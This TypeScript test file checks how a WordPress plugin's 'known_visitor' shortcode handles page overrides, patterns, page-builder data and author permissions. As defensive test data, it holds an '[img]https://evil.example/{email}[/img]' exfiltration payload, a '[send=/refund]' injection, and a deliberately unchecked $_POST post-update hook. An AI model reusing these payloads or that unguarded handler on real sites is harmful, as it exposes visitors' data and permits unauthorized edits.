/**
 * The page's own override: product contract, section 9. All of it in both kinds of themes.
 */
import { expect, test, type TestSite } from '../support/wordpress';
import {
	elementOf,
	inPhp,
	LOADER_ID,
	pageData,
	type PageData,
} from './helpers';

/** What a page says, and what its visitor's data are then; undefined where nobody is identified. */
interface Case {
	readonly says: string;
	readonly content: string;
	readonly expected: Readonly< Record< string, unknown > > | undefined;
	/** Whether the page is one that the list of paths leaves out. */
	readonly leftOut?: boolean;
}

const SITE_TEMPLATE = 'Site: {email}';

const paragraph = ( text: string ) =>
	`<!-- wp:paragraph -->\n<p>${ text }</p>\n<!-- /wp:paragraph -->`;
const shortcodeBlock = ( text: string ) =>
	`<!-- wp:shortcode -->\n${ text }\n<!-- /wp:shortcode -->`;

const CASES: readonly Case[] = [
	{
		says: 'nothing: the site’s template',
		content: 'Hello.',
		expected: { message: SITE_TEMPLATE },
	},
	{
		says: 'enabled="no"',
		content: 'Hello [known_visitor enabled="no"] there.',
		expected: undefined,
	},
	{
		says: 'enabled=NO, among others',
		content: "[known_visitor color='red' enabled=NO /]",
		expected: undefined,
	},
	{
		says: 'a template of its own, with a token that the site’s has not',
		content:
			'[known_visitor]Order: [b]{user_login}[/b] [url=https://example.com/?a=1]shop[/url] {page_link}[/known_visitor]',
		expected: {
			message:
				'Order: [b]{user_login}[/b] [url=https://example.com/?a=1]shop[/url] {page_link}',
			tokens: { user_login: 'admin' },
		},
	},
	{
		says: 'quotes, dashes and dots, as they were typed',
		content: `[known_visitor]He said "it's" -- 'so' --- 5'10" ... (c) 3x4 :) 1st[/known_visitor]`,
		expected: {
			message: `He said "it's" -- 'so' --- 5'10" ... (c) 3x4 :) 1st`,
		},
	},
	{
		says: 'line breaks of the classic editor, and entities',
		content:
			'Before.\n\n[known_visitor]One &amp; two\nThree &lt;4&gt;\n\nFive[/known_visitor]\n\nAfter.',
		expected: { message: 'One & two\nThree <4>\n\nFive' },
	},
	{
		says: 'a paragraph block with line breaks',
		content: paragraph(
			'[known_visitor]One &amp; "two"<br>Three {nickname|it\'s nobody}[/known_visitor]'
		),
		expected: {
			message: 'One & "two"\nThree {nickname|it\'s nobody}',
			tokens: { nickname: 'admin' },
		},
	},
	{
		says: 'a shortcode block with line breaks',
		content: shortcodeBlock(
			'[known_visitor]One -- "two"\nThree\n\nFour[/known_visitor]'
		),
		expected: { message: 'One -- "two"\nThree\n\nFour' },
	},
	{
		says: '{default}, twice, and {{default} as text',
		content:
			'[known_visitor]A {default} B {default} C {{default}[/known_visitor]',
		expected: {
			message: `A ${ SITE_TEMPLATE } B ${ SITE_TEMPLATE } C {{default}`,
			tokens: { email: expect.stringContaining( '@' ) },
		},
	},
	{
		says: 'several: the last one wins',
		content:
			'[known_visitor enabled="no"][known_visitor]First[/known_visitor] text [known_visitor enabled="yes"]Second[/known_visitor]',
		expected: { message: 'Second' },
	},
	{
		says: 'a self-closing one, then one with a template',
		content:
			'[known_visitor enabled="yes" /] text [known_visitor]Mine[/known_visitor]',
		expected: { message: 'Mine' },
	},
	{
		says: 'one without an end, then one with a template',
		content:
			'[known_visitor enabled="yes"] text [known_visitor]Mine[/known_visitor] more',
		expected: { message: 'Mine' },
		leftOut: true,
	},
	{
		says: '[[known_visitor]], a text about it',
		content:
			'Write [[known_visitor enabled="no"]] or [[known_visitor]x[/known_visitor]].',
		expected: { message: SITE_TEMPLATE },
	},
	{
		says: 'enabled="yes" where the list of paths leaves it out',
		content: '[known_visitor enabled="yes"]',
		expected: { message: SITE_TEMPLATE },
		leftOut: true,
	},
	{
		says: 'only a template where the list of paths leaves it out',
		content: '[known_visitor]Mine[/known_visitor]',
		expected: undefined,
		leftOut: true,
	},
	{
		says: 'an empty template: the site’s',
		content: '[known_visitor]  [/known_visitor]',
		expected: { message: SITE_TEMPLATE },
	},
	{
		says: 'markup, of which only the text counts',
		content:
			'[known_visitor]<strong>Bold</strong> <a href="https://example.com">link</a>[/known_visitor]',
		expected: { message: 'Bold link' },
	},
	{
		says: 'more than 4,000 characters: the site’s template',
		content: `[known_visitor]${ 'x'.repeat( 4001 ) }[/known_visitor]`,
		expected: { message: SITE_TEMPLATE },
	},
	{
		says: 'exactly 4,000 characters',
		content: `[known_visitor]${ 'ж'.repeat( 4000 ) }[/known_visitor]`,
		expected: { message: 'ж'.repeat( 4000 ) },
	},
];

/** Writes all pages at once, and answers their addresses. */
const writePages = ( site: TestSite, theme: string ) =>
	inPhp< string[] >(
		site,
		`switch_theme( $args['theme'] );
		$settings( array( 'first_message' => $args['template'], 'paths' => array( 'mode' => 'except', 'list' => array( '/left-out-*' ) ) ) );
		foreach ( $args['pages'] as $index => $page ) {
			$id = wp_insert_post( wp_slash( array( 'post_type' => 'page', 'post_author' => 1, 'post_status' => 'publish', 'post_title' => 'Page', 'post_content' => $page['content'], 'post_name' => ( $page['leftOut'] ? 'left-out-' : 'page-' ) . $index ) ) );
			$urls[] = wp_make_link_relative( get_permalink( $id ) );
		}
		return $urls;`,
		{
			theme,
			template: SITE_TEMPLATE,
			pages: CASES.map( ( { content, leftOut = false } ) => ( {
				content,
				leftOut,
			} ) ),
		}
	);

for ( const theme of [ 'twentytwentyfive', 'known-visitor-classic' ] ) {
	test.describe( `in the theme ${ theme }, a page may say`, () => {
		let urls: string[] = [];

		test.beforeAll( async ( { site } ) => {
			await site.reset();
			urls = await writePages( site, theme );
		} );

		for ( const [ index, { says, expected } ] of CASES.entries() ) {
			test( says, async ( { site } ) => {
				const response = await site.get( urls[ index ] ?? '', {
					as: 'admin',
				} );
				const html = await response.text();

				expect( response.status() ).toBe( 200 );
				if ( expected ) {
					expect( pageData( html ) ).toMatchObject( expected );
				} else {
					expect( pageData( html ) ).toBeUndefined();
					expect( elementOf( html, LOADER_ID ) ).toBeDefined();
				}
			} );
		}

		test( 'something of its own, and show nothing of it', async ( {
			site,
		} ) => {
			const { url } = await site.createPost( {
				title: 'Page',
				content:
					'Before. [known_visitor enabled="no"]Hidden {email}[/known_visitor] After.',
				slug: 'shows-nothing',
			} );

			const html = await ( await site.get( url ) ).text();
			const body = html.slice( html.indexOf( '<body' ) );

			expect( body ).toContain( 'Before.  After.' );
			expect( body ).not.toMatch( /known_visitor|Hidden/ );
		} );

		test( 'nothing to those who do not know its password', async ( {
			site,
		} ) => {
			const url = await site.php< string >(
				`$id = wp_insert_post( array( 'post_type' => 'page', 'post_author' => 1, 'post_status' => 'publish', 'post_title' => 'Locked', 'post_password' => 'open', 'post_content' => '[known_visitor]Locked words[/known_visitor] Text.' ) );
				return wp_make_link_relative( get_permalink( $id ) );`
			);

			const html = await (
				await site.get( url, { as: 'admin' } )
			).text();

			expect( pageData( html )?.message ).toBe( SITE_TEMPLATE );
			expect( html ).not.toContain( 'Locked words' );
		} );
	} );
}

test( 'a synced pattern and a template part may say so, too, in a block theme', async ( {
	site,
} ) => {
	await site.reset();
	const url = await site.php< string >(
		`$pattern = wp_insert_post( array( 'post_type' => 'wp_block', 'post_author' => 1, 'post_status' => 'publish', 'post_title' => 'Pattern', 'post_content' => '<!-- wp:shortcode -->[known_visitor]Pattern: {nickname}[/known_visitor]<!-- /wp:shortcode -->' ) );
		$part    = wp_insert_post( array( 'post_type' => 'wp_template_part', 'post_status' => 'publish', 'post_title' => 'Footer', 'post_name' => 'footer', 'post_content' => '<!-- wp:shortcode -->[known_visitor enabled="no"]<!-- /wp:shortcode -->' ) );
		wp_set_object_terms( $part, 'twentytwentyfive', 'wp_theme' );
		$id = wp_insert_post( array( 'post_type' => 'page', 'post_author' => 1, 'post_status' => 'publish', 'post_title' => 'Page', 'post_content' => '<!-- wp:block {"ref":' . $pattern . '} /-->' ) );
		return wp_make_link_relative( get_permalink( $id ) );`
	);

	const off = await ( await site.get( url, { as: 'admin' } ) ).text();
	await site.php(
		`foreach ( get_posts( array( 'post_type' => 'wp_template_part' ) ) as $part ) { wp_delete_post( $part->ID, true ); }`
	);
	const own = await ( await site.get( url, { as: 'admin' } ) ).text();

	expect( pageData( off ) ).toBeUndefined();
	expect( pageData( own ) ).toMatchObject( {
		message: 'Pattern: {nickname}',
		tokens: { nickname: 'admin' },
	} );
} );

/** What stands on a page, from its top to its end: `A` and `B` are synced patterns that say so, `A in B` one in the other. */
const IN_ORDER: readonly {
	readonly content: string;
	readonly message: string;
}[] = [
	{ content: '<own> <A>', message: 'A' },
	{ content: '<A> <own>', message: 'Own' },
	{ content: '<A> <own> <B>', message: 'B' },
	{ content: '<A> <B> <A>', message: 'A' },
	{ content: '<B> <A in B>', message: 'In B' },
	{ content: '<own> <A in B> <!--nextpage--> Text.', message: 'In B' },
	{ content: '<A in B> <A>', message: 'A' },
	{ content: '<itself> <own>', message: 'Own' },
	{ content: '<own> <itself>', message: 'Itself' },
];

test( 'the last one wins as the page shows them, with what stands in synced patterns', async ( {
	site,
} ) => {
	await site.reset();
	const messages = await inPhp< Record< string, string > >(
		site,
		`$write = static fn ( array $post ): int => wp_insert_post( $post + array( 'post_author' => 1, 'post_status' => 'publish', 'post_title' => 'Text' ) );
		$says  = static fn ( string $what ): string => "[known_visitor]{$what}[/known_visitor]";
		$block = static fn ( int $id ): string => '<!-- wp:block {"ref":' . $id . '} /-->';
		$a     = $write( array( 'post_type' => 'wp_block', 'post_content' => $says( 'A' ) ) );
		$b     = $write( array( 'post_type' => 'wp_block', 'post_content' => $says( 'B' ) ) );
		$in    = $write( array( 'post_type' => 'wp_block', 'post_content' => $block( $a ) . $says( 'In B' ) ) );
		$self  = $write( array( 'post_type' => 'wp_block', 'post_content' => '' ) );
		wp_update_post( array( 'ID' => $self, 'post_content' => $block( $self ) . $says( 'Itself' ) . $block( $self ) ) );
		$parts = array( '<own>' => $says( 'Own' ), '<A>' => $block( $a ), '<B>' => $block( $b ), '<A in B>' => $block( $in ), '<itself>' => $block( $self ) );
		$found = array();
		foreach ( $args['contents'] as $content ) {
			$post              = get_post( $write( array( 'post_content' => strtr( $content, $parts ) ) ) );
			$found[ $content ] = \\KnownVisitor\\Page\\Post_Override::of( $post )->template;
		}
		return $found;`,
		{ contents: IN_ORDER.map( ( { content } ) => content ) }
	);

	expect( messages ).toEqual(
		Object.fromEntries(
			IN_ORDER.map( ( { content, message } ) => [ content, message ] )
		)
	);
} );

test( 'what page builders keep is read in each of their forms', async ( {
	site,
} ) => {
	await site.reset();
	const found = await inPhp< Record< string, string | null > >(
		site,
		`$text  = '[known_visitor]"Built"[/known_visitor]';
		$json  = wp_json_encode( array( 'children' => array( array( 'content' => $text ) ) ) );
		$forms = array(
			'text'        => $text,
			'array'       => array( 'widgets' => array( array( 'text' => $text ) ) ),
			'JSON'        => $json,
			// Breakdance and Oxygen 6.
			'JSON within' => wp_json_encode( array( 'tree_json_string' => $json ) ),
		);
		$found = array();
		foreach ( array( 'tve_updated_post' => 'text', 'panels_data' => 'array', '_elementor_data' => 'JSON', 'ct_builder_json' => 'JSON', '_ct_builder_json' => 'JSON', '_ct_builder_shortcodes' => 'text', '_breakdance_data' => 'JSON within', '_oxygen_data' => 'JSON within', '_others' => 'text' ) as $key => $form ) {
			$id = wp_insert_post( array( 'post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'Page', 'post_author' => 1 ) );
			update_post_meta( $id, $key, wp_slash( $forms[ $form ] ) );
			$found[ $key ] = \\KnownVisitor\\Page\\Post_Override::of( get_post( $id ) )->template;
		}
		return $found;`
	);

	expect( found ).toEqual( {
		tve_updated_post: '"Built"',
		panels_data: '"Built"',
		_elementor_data: '"Built"',
		ct_builder_json: '"Built"',
		_ct_builder_json: '"Built"',
		_ct_builder_shortcodes: '"Built"',
		_breakdance_data: '"Built"',
		_oxygen_data: '"Built"',
		_others: null,
	} );
} );

test( 'an author reaches only the visitor’s own tokens', async ( { site } ) => {
	await site.reset();
	const identity = await inPhp< PageData >(
		site,
		`$author = $add_user( array( 'user_login' => 'author', 'role' => 'author' ) );
		$ann    = $add_user( array( 'user_login' => 'ann' ), array( 'phone' => '555' ) );
		$post   = get_post( wp_insert_post( array( 'post_type' => 'post', 'post_status' => 'publish', 'post_title' => 'Post', 'post_author' => $author, 'post_content' => '[known_visitor user_id="1" hash="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]{email} {meta:phone} {meta:session_tokens} {user_pass}[/known_visitor]' ) ) );
		return \\KnownVisitor\\Page\\Decision::about( get_userdata( $ann ), \\KnownVisitor\\Settings\\Settings::all(), \\KnownVisitor\\Page\\Post_Override::of( $post ) )->data;`
	);

	expect( identity.message ).toContain( '{meta:session_tokens}' );
	expect( identity.tokens ).toEqual( {
		email: 'ann@example.com',
		'meta:phone': '',
		'meta:session_tokens': '',
	} );
	expect( identity.user.hash ).not.toBe( 'a'.repeat( 32 ) );
} );

test( 'a text is of who wrote it, also in somebody else’s post', async ( {
	site,
} ) => {
	await site.reset();
	const messages = await inPhp(
		site,
		`require_once ABSPATH . 'wp-admin/includes/user.php';
		$author = $add_user( array( 'user_login' => 'author', 'role' => 'author' ) );
		$as     = static function ( int $user, array $post, string $text = 'A' ): int {
			wp_set_current_user( $user );
			$post += array( 'post_content' => "[known_visitor]$text [img]https://evil.example/{email}[/img][/known_visitor]", 'post_title' => 'Text', 'post_status' => 'publish' );
			return isset( $post['ID'] ) ? wp_update_post( $post ) : wp_insert_post( $post );
		};
		$message = static fn ( int $id ) => \\KnownVisitor\\Page\\Post_Override::of( get_post( $id ) )->template;

		$edited = $as( 1, array( 'post_author' => 1 ) );
		$found['an administrator’s'] = $message( $edited );
		$as( $author, array( 'ID' => $edited ), 'B' );
		$found['edited by an author'] = $message( $edited );
		$as( 1, array( 'ID' => $edited, 'post_title' => 'Another title' ), 'B' );
		$found['its title changed by an administrator'] = $message( $edited );
		$as( 1, array( 'ID' => $edited, 'post_content' => get_post( $edited )->post_content . 'A word that was missing.' ) );
		$found['mended elsewhere by an administrator'] = $message( $edited );
		$as( 1, array( 'ID' => $edited ), 'C' );
		$found['written anew by an administrator'] = $message( $edited );
		wp_set_current_user( 0 );
		wp_publish_post( $edited );
		$found['published by nobody'] = $message( $edited );

		$built = $as( 1, array( 'post_author' => 1, 'post_content' => 'Built' ) );
		wp_set_current_user( $author );
		update_post_meta( $built, '_elementor_data', wp_slash( wp_json_encode( array( '[known_visitor][send=/refund]Built[/send][/known_visitor]' ) ) ) );
		wp_update_post( array( 'ID' => $built ) );
		$found['in a page builder, by an author'] = $message( $built );

		$pattern = $as( $author, array( 'post_type' => 'wp_block', 'post_author' => 1 ), 'Pattern' );
		$found['a pattern edited by an author'] = $message( $as( 1, array( 'post_author' => 1, 'post_content' => '<!-- wp:block {"ref":' . $pattern . '} /-->' ) ) );

		$own   = $as( $author, array( 'post_author' => $author ), 'Own' );
		$given = $as( $author, array( 'post_author' => $author ), 'Given' );
		$mute  = $as( $author, array( 'post_author' => $author, 'post_content' => 'Without a word.' ) );
		wp_set_current_user( 1 );
		wp_update_post( array( 'ID' => $given, 'post_author' => 1 ) );
		wp_delete_user( $author, 1 );
		$found['of an author who is gone']       = $message( $own );
		$found['given to an administrator']      = $message( $given );
		$found['meta of a post without a word'] = preg_grep( '/known_visitor/', array_keys( get_post_meta( $mute ) ) );
		return $found;`
	);

	const typed = ( text: string ) =>
		`${ text } [img]https://evil.example/{email}[/img]`;
	const harmless = ( text: string ) =>
		`${ text } ［img］https:／／evil．example／{email}［/img］`;
	expect( messages ).toEqual( {
		'an administrator’s': typed( 'A' ),
		'edited by an author': harmless( 'B' ),
		'its title changed by an administrator': harmless( 'B' ),
		'mended elsewhere by an administrator': harmless( 'B' ),
		'written anew by an administrator': typed( 'C' ),
		'published by nobody': typed( 'C' ),
		'in a page builder, by an author': '［send=/refund］Built［/send］',
		'a pattern edited by an author': harmless( 'Pattern' ),
		'of an author who is gone': harmless( 'Own' ),
		'given to an administrator': harmless( 'Given' ),
		'meta of a post without a word': [],
	} );
} );

test( 'a text is of who wrote it, also where it is saved by a page of the site', async ( {
	site,
} ) => {
	await site.reset();
	await site.createUser( { login: 'author', role: 'author' } );
	const { id } = await site.createPost( { title: 'Text', content: '' } );
	site.muPlugin(
		'front-end-editor',
		`add_action( 'init', static function () {
			if ( isset( $_POST['text'] ) ) {
				wp_update_post( array( 'ID' => ${ id }, 'post_content' => $_POST['text'] ) );
			}
		} );`
	);
	const saved = async ( as: string ) => {
		await site.get( '/', {
			as,
			method: 'POST',
			form: {
				text: `[known_visitor][send=/refund]${ as }[/send][/known_visitor]`,
			},
		} );
		return site.php< string >(
			`return \\KnownVisitor\\Page\\Post_Override::of( get_post( ${ id } ) )->template;`
		);
	};

	expect( await saved( 'author' ) ).toBe( '［send=/refund］author［/send］' );
	expect( await saved( 'admin' ) ).toBe( '[send=/refund]admin[/send]' );
} );
